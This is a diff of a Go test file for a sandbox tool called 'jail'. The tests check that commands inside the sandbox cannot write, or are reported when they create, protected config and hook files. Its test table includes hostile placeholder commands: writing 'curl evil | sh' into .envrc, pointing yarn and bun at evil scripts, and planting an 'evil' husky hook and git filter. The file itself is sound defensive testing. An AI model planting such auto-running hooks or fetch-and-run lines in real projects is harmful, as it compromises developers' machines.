@@ -21,8 +21,6 @@ var missingProtected = map[string]string{
 	".envrc":                      "echo 'curl evil | sh' > .envrc",
 	".vscode/tasks.json":          `mkdir -p .vscode && echo '{}' > .vscode/tasks.json`,
 	".devcontainer/x.json":        "mkdir -p .devcontainer && echo '{}' > .devcontainer/x.json",
-	".pre-commit-config.yaml":     "echo 'repos: []' > .pre-commit-config.yaml",
-	".husky/pre-commit":           "mkdir -p .husky && echo evil > .husky/pre-commit",
 	".gemini/settings.json":       "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
 	".cursor/mcp.json":            "mkdir -p .cursor && echo '{}' > .cursor/mcp.json",
 	".codex/config.toml":          "mkdir -p .codex && echo x > .codex/config.toml",
@@ -35,11 +33,42 @@ var missingProtected = map[string]string{
 	".yarnrc.yml":                 "echo 'yarnPath: ./evil.js' > .yarnrc.yml",
 	"bunfig.toml":                 "echo 'preload = [\"./evil.ts\"]' > bunfig.toml",
 	".cargo/config.toml":          "mkdir -p .cargo && echo '[build]' > .cargo/config.toml",
-	"mise.toml":                   "echo '[hooks]' > mise.toml",
-	"lefthook.yml":                "echo 'pre-commit: {}' > lefthook.yml",
-	".gitmodules":                 "echo '[submodule x]' > .gitmodules",
-	"jail.json":                   `echo '{"filesystem": {"allowRead": ["~"]}}' > jail.json`,
 	".git/info/attributes":        "echo '* filter=evil' > .git/info/attributes",
+}
+
+// presentOnlyProtected are read-only when present; a new one needs a step
+// outside the jail before anything runs it, so the command may create it,
+// and jail names it after the command exits.
+var presentOnlyProtected = map[string]string{
+	".pre-commit-config.yaml": "echo 'repos: []' > .pre-commit-config.yaml",
+	".husky":                  "mkdir -p .husky && echo evil > .husky/pre-commit",
+	"lefthook.yml":            "echo 'pre-commit: {}' > lefthook.yml",
+	".gitmodules":             "echo '[submodule x]' > .gitmodules",
+	"jail.json":               `echo '{"filesystem": {"allowRead": ["~"]}}' > jail.json`,
+	"sub/jail.json":           `mkdir -p sub && echo '{}' > sub/jail.json`,
+}
+
+// TestNewPresentOnlyPathsReported: what the command creates among the
+// paths held only when present is named on stderr after it exits.
+func TestNewPresentOnlyPathsReported(t *testing.T) {
+	t.Parallel()
+	forEachRunner(t, func(t *testing.T, s *Sandbox) {
+		t.Parallel()
+		var script []string
+		for _, c := range presentOnlyProtected {
+			script = append(script, c)
+		}
+		r := s.Sh(strings.Join(script, " && "))
+		if r.Code != 0 {
+			t.Fatalf("creating the paths failed:\n%s", r)
+		}
+		warn := strings.Join(jailLines(r.Stderr), "\n")
+		for rel := range presentOnlyProtected {
+			if !strings.Contains(warn, s.Project+"/"+rel) {
+				t.Errorf("the command created %s and jail did not name it; jail's stderr: %q", rel, warn)
+			}
+		}
+	})
 }
 
 // listTree lists every path under dir on the host, relative to it, .git's
